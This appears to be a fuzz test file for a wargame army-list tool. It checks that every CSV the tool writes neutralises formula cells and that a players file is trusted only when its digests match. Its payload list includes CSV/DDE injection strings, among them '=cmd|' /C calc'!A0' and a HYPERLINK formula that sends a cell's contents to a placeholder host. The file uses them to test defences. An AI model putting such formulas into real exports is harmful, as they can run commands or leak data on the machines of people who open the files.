"""Fuzzing the CSV files armybuilder writes, through the real writers, and the players file through
``tournament`` (issue 45, items 4 and 5). ``test_fuzz_csv`` fuzzes the one guard and the players
file's reader; here what reaches them is hostile and comes the way it comes in use.

The writers: a desk (a fresh one each example) takes lists from players of hostile names (formula
starts, ``'`` runs, quotes, separators, text of any script), registered with hostile e-mails,
under submission ids that begin with ``-`` or ``_``; each list carries a hostile ``name:`` and
``player:``; the organiser renames, checks in and withdraws. Then every CSV the desk gives
(``roster.csv``, ``lists-text.csv``, ``log.csv``, ``report.csv``, the players file of
``lists.zip``), ``collect --export``'s players file and ``tournament --report`` CSV of the folder
exported, and of the lists' own folder (their own ``player:`` names): no cell of any begins with
``= + - @``, a tab or a carriage return, and the players file round-trips (``tournament`` names
each list as the desk knows its player).

The players file: a folder of real lists (some with their own ``player:``, some not a list) and
a players file written for it, then damaged: a list changed, removed or added, a digest, a name or
a file name changed, the file cut, its bytes replaced, a BOM lost, CRLF, a header lost, a line
repeated, or the file replaced by a FIFO, a link to ``/dev/zero``, a folder, a file past its limit,
a file that cannot be read. ``tournament`` (in-process, under an alarm: a hang fails the example)
never raises, never uses a name the digests do not vouch for, and says on stderr why a players file
there was not used. Bounded and repeatable as ``test_fuzz_lists``.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from hypothesis import event, given
from hypothesis import strategies as st
from typer.testing import CliRunner

import armybuilder.desk.store as engine
from armybuilder.cli import app
from armybuilder.csvcells import FORMULA_START, unguard
from armybuilder.desk import Desk, Refusal, clean_player, player_key
from armybuilder.events import load
from armybuilder.lists import MAX_PLAYERS_FILE, PLAYERS_FILE, players_file
from armybuilder.web.desk.downloads import _download
from tests.fuzz.test_fuzz_lists import MAX_EXAMPLES, ROOT, fuzzing
from tests.support.hangs import alarm

GAMES_DAY = ROOT / "examples" / "events" / "games-day.yaml"
PACK = load(GAMES_DAY)
OZZY = (ROOT / "examples" / "token-terrors" / "ozzys-muster.yaml").read_text(encoding="utf-8")
LISTS = sorted(p for p in (ROOT / "examples").glob("*/*.yaml") if p.parent.name != "events")
SCRATCH = "/dev/shm" if Path("/dev/shm").is_dir() else None  # the desk's synced writes, in memory
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "@SUM(A1:A9)",
    "+44 20 7946 0000",
    "-1+1",
    "'=already guarded",
    "''@twice",
    "\t=tab",
    "\r=cr",
    "=cmd|' /C calc'!A0",
    '"=quoted",=next',
]
HOSTILE = st.sampled_from(FORMULAS) | st.text(
    alphabet=st.sampled_from(list("'=+-@\t\r\n,;\"ab 1")) | st.characters(), min_size=1, max_size=24
)
REPORT_CSVS = ["roster.csv", "lists-text.csv", "log.csv", "report.csv"]


def cells(raw: bytes | str) -> list[list[str]]:
    text = raw.decode("utf-8") if isinstance(raw, bytes) else raw
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def no_formula(rows: list[list[str]], what: str) -> None:
    for row in rows:
        for c in row:
            assert c[:1] not in tuple(FORMULA_START), f"{what}: a cell is a formula: {c[:60]!r}"


def _accepted(text: str) -> str | None:
    try:
        return clean_player(text)
    except Refusal:
        return None


def printable(text: str) -> str:
    """What a list's YAML may hold (it refuses control characters but the tab, and halves of a
    surrogate pair)."""
    return "".join(c for c in text if c == "\t" or (c.isprintable() and not 0xD800 <= ord(c) <= 0xDFFF)) or "x"


def yaml_string(text: str) -> str:
    """A YAML double-quoted scalar of ``text`` (JSON's escapes are YAML's)."""
    return json.dumps(text)


@contextlib.contextmanager
def ids(drawn: list[str]) -> Iterator[None]:
    """The desk's new submission ids taken from ``drawn`` (ids that begin with ``-`` or ``_``, as 1
    in 32 real ones do), then its own."""
    real = engine.secrets.token_urlsafe
    left = list(drawn)

    def token_urlsafe(n: int | None = None) -> str:
        return left.pop(0) if n == 6 and left else real(n)

    engine.secrets.token_urlsafe = token_urlsafe  # type: ignore[assignment]
    try:
        yield
    finally:
        engine.secrets.token_urlsafe = real  # type: ignore[assignment]


def tournament(*args: str) -> Any:
    with alarm(60):
        return CliRunner().invoke(app, ["tournament", *args])


@fuzzing(max(1, MAX_EXAMPLES // 3))
@given(data=st.data())
def test_no_csv_written_has_a_formula_and_the_players_file_round_trips(data):
    names: list[str] = []
    for i, drawn in enumerate(data.draw(st.lists(HOSTILE, min_size=1, max_size=4), label="players")):
        name = _accepted(drawn) or f"Player {i}"
        if player_key(name) not in {player_key(n) for n in names}:
            names.append(name)
    sids = [
        data.draw(st.sampled_from("-_") | st.sampled_from("aZ0"), label="id start")
        + data.draw(st.text(alphabet="abcXYZ019-_", min_size=7, max_size=7), label="id")
        for _ in names
    ]
    with (
        tempfile.TemporaryDirectory(prefix="armybuilder-fuzz-writers-", dir=SCRATCH) as tmp,
        Desk(Path(tmp) / "desk.sqlite", PACK) as desk,
        ids(sids),
    ):
        if data.draw(st.booleans(), label="registered"):
            # as the organiser's page reads a file (UTF-8: never half of a surrogate pair), NUL refused
            emails = [printable(data.draw(HOSTILE, label="e-mail")) for _ in names]
            register = "".join(collect_line(n, e) for n, e in zip(names, emails, strict=True))  # name, e-mail a line
            with contextlib.suppress(Refusal):  # a hostile e-mail may make the file unreadable as CSV
                desk.register(register)
        taken = []
        for name in names:
            title = printable(data.draw(HOSTILE, label="list name"))
            own = printable(data.draw(HOSTILE, label="list's own player"))
            text = OZZY.replace("name: Ozzy's Muster", f"player: {yaml_string(own)}\nname: {yaml_string(title)}")
            try:
                taken.append(desk.submit(name, text))
            except Refusal as exc:  # a title YAML refuses, a name not registered
                event(f"refused {exc.status}")
        subs = {t.id: t for t in taken}
        for sid in subs:
            what = data.draw(st.sampled_from(["none", "rename", "check in", "withdraw"]), label="organiser")
            with contextlib.suppress(Refusal):
                if what == "rename":
                    desk.rename(sid, _accepted(data.draw(HOSTILE, label="new name")) or "Renamed")
                elif what == "check in":
                    desk.check_in(sid)
                elif what == "withdraw":
                    desk.withdraw(sid)
        standing = {s.id: s.player for s in desk.submissions()}
        event(f"lists standing: {len(standing)}")
        for name in REPORT_CSVS:
            got = cells(_download(desk, name))
            no_formula(got, name)
            if name == "roster.csv":
                by_id = {unguard(r[0]): unguard(r[1]) for r in got[1:]}
                assert by_id == standing, "roster.csv names a player otherwise than the desk"
        with zipfile.ZipFile(io.BytesIO(_download(desk, "lists.zip"))) as z:
            unzipped = Path(tmp) / "unzipped"
            z.extractall(unzipped)
        exported = Path(tmp) / "exported"
        desk.export(exported)
        for folder in (unzipped, exported):
            no_formula(cells((folder / PLAYERS_FILE).read_bytes()), PLAYERS_FILE)
            if not standing:  # no list to check: tournament says so (exit 2)
                continue
            report = folder.parent / f"{folder.name}.csv"
            r = tournament(str(GAMES_DAY), str(folder), "--format", "json", "--report", str(report))
            assert r.exit_code in (0, 1), (r.exit_code, r.stderr[-2000:])
            assert "Traceback" not in r.stderr
            no_formula(cells(report.read_text(encoding="utf-8")), "tournament --report")
            shown = sorted(e["player"] for e in json.loads(r.stdout)["lists"])
            assert shown == sorted(standing.values()), "the players file did not give the desk's names back"
            assert sorted(unguard(row[1]) for row in cells(report.read_text(encoding="utf-8"))[1:]) == shown
        # the lists' own folder: no players file, each list's own (hostile) player: written as it is
        (exported / PLAYERS_FILE).unlink()
        if not standing:
            return
        report = Path(tmp) / "own.csv"
        r = tournament(str(GAMES_DAY), str(exported), "--report", str(report))
        assert r.exit_code in (0, 1) and "Traceback" not in r.stderr
        no_formula(cells(report.read_text(encoding="utf-8")), "tournament --report (the lists' own names)")


def collect_line(name: str, email: str) -> str:
    """A line of a registration file as a player's spreadsheet writes it: name, e-mail."""
    quoted = ['"' + v.replace('"', '""') + '"' for v in (name, " ".join(email.split()))]
    return ",".join(quoted) + "\n"


# ---------------------------------------------------------------------------
# The players file, through tournament


DAMAGES = [
    "as written",
    "list changed",
    "list removed",
    "list added",
    "digest",
    "name",
    "file renamed",
    "cut",
    "bytes",
    "no BOM",
    "CRLF",
    "no header",
    "line twice",
    "fifo",
    "dev zero",
    "folder",
    "huge",
    "unreadable",
    "link to a list",
]


@fuzzing(max(1, MAX_EXAMPLES // 3))
@given(data=st.data())
def test_tournament_names_a_list_only_as_its_digest_vouches(data):
    picked = data.draw(st.lists(st.sampled_from(LISTS), min_size=1, max_size=4), label="lists")
    with tempfile.TemporaryDirectory(prefix="armybuilder-fuzz-players-") as tmp:
        folder = Path(tmp) / "lists"
        folder.mkdir()
        rows = []
        own: dict[str, str] = {}
        for i, source in enumerate(picked):
            text = source.read_text(encoding="utf-8")
            if data.draw(st.booleans(), label="own player"):
                own[f"l{i}.yaml"] = f"Own {i}"
                text = text.replace("\nname:", f"\nplayer: Own {i}\nname:", 1)
            if data.draw(st.integers(0, 9), label="not a list") == 0:
                text = data.draw(st.sampled_from(["", "system: [\n", "- a\n- b\n"]), label="junk")
            body = text.encode("utf-8")
            (folder / f"l{i}.yaml").write_bytes(body)
            player = _accepted(data.draw(HOSTILE, label="player")) or f"Player {i}"
            rows.append((f"l{i}.yaml", player, body))
        raw = players_file(rows)
        given_names = {f: p for f, p, _ in rows}
        how = data.draw(st.sampled_from(DAMAGES), label="damage")
        event(how)
        sidecar = folder / PLAYERS_FILE
        first = rows[0][0]
        if how == "list changed":
            (folder / first).write_bytes(rows[0][2] + b"\n# changed\n")
        elif how == "list removed":
            (folder / first).unlink()
        elif how == "list added":
            (folder / "extra.yaml").write_bytes(LISTS[0].read_bytes())
        elif how == "digest":
            digest = hashlib.sha256(rows[0][2]).hexdigest()
            raw = raw.replace(digest.encode(), digest[::-1].encode())
        elif how == "name":
            new = _accepted(data.draw(HOSTILE, label="new name")) or "Zed"
            raw = players_file([(f, new if f == first else p, b) for f, p, b in rows])
            given_names[first] = new
        elif how == "file renamed":
            raw = players_file([("other.yaml" if f == first else f, p, b) for f, p, b in rows])
        elif how == "cut":
            raw = raw[: data.draw(st.integers(0, len(raw)), label="cut at")]
        elif how == "bytes":
            raw = data.draw(st.binary(max_size=300), label="players file")
        elif how == "no BOM":
            raw = raw.removeprefix("\ufeff".encode())
        elif how == "CRLF":
            raw = raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        elif how == "no header":
            raw = b"\r\n".join(raw.split(b"\r\n")[1:])
        elif how == "line twice":
            lines = raw.split(b"\r\n")
            raw = b"\r\n".join([*lines[:2], lines[1], *lines[2:]])
        if how == "fifo":
            os.mkfifo(sidecar)
        elif how == "dev zero":
            sidecar.symlink_to("/dev/zero")
        elif how == "folder":
            sidecar.mkdir()
        elif how == "huge":
            sidecar.write_bytes(raw + b"#" * (MAX_PLAYERS_FILE + 1))
        elif how == "link to a list":
            sidecar.symlink_to(folder / first)
        else:
            sidecar.write_bytes(raw)
            if how == "unreadable":
                sidecar.chmod(0)
        r = tournament(str(GAMES_DAY), str(folder), "--format", "json")
        if not any(folder.glob("*.yaml")):  # the one list removed: nothing to check, and said
            assert r.exit_code == 2 and "no list files" in r.stderr, (how, r.exit_code, r.stderr[-2000:])
            return
        assert r.exit_code in (0, 1), (how, r.exit_code, r.stderr[-2000:])
        assert "Traceback" not in r.stderr and "Traceback" not in r.stdout
        out = json.loads(r.stdout)
        files_now = {p.name: p.read_bytes() for p in folder.glob("*.yaml")}
        vouched = _vouched(sidecar, files_now)
        from_file = {Path(e["file"]).name: e["player"] for e in out["lists"] if e.get("player_from")}
        if vouched is None:
            assert from_file == {}, f"{how}: names taken from a players file that does not vouch for them"
            assert f"{sidecar}" in r.stderr and "not used" in r.stderr, f"{how}: not said why: {r.stderr}"
        else:
            assert from_file == {f: p for f, p in vouched.items() if f in files_now and p}, how
            assert all(given_names.get(f) == p for f, p in from_file.items())
        for e in out["lists"]:  # a name not from the file is the list's own, or none
            name = Path(e["file"]).name
            if name not in from_file and name in own and files_now[name].decode("utf-8", "replace").strip():
                assert e["player"] in (own[name], None), (how, e)
            elif name not in from_file:
                assert e["player"] is None or e["player"] not in set(given_names.values()) - set(own.values()), (how, e)


def _vouched(sidecar: Path, files: dict[str, bytes]) -> dict[str, str] | None:
    """The names a players file vouches for, by the rule it is taken by: a regular file of at most
    its limit, its first line 'file,player,sha256', and every other line (but a blank one) naming
    one file of the folder, once, with that file's SHA-256; else None."""
    if sidecar.is_symlink() or not sidecar.is_file() or sidecar.stat().st_size > MAX_PLAYERS_FILE:
        return None
    try:
        text = sidecar.read_bytes().decode("utf-8-sig")
        rows = [[unguard(c) for c in row] for row in csv.reader(text.splitlines())]
    except (OSError, UnicodeDecodeError, csv.Error):
        return None
    if not rows or [c.strip().casefold() for c in rows[0]][:3] != ["file", "player", "sha256"]:
        return None
    names: dict[str, str] = {}
    for row in rows[1:]:
        if not any(c.strip() for c in row):
            continue
        if len(row) < 3:
            return None
        f, p, digest = row[0], " ".join(row[1].split())[:200], row[2].strip().lower()
        if f not in files or f in names or hashlib.sha256(files[f]).hexdigest() != digest:
            return None
        names[f] = p
    return names
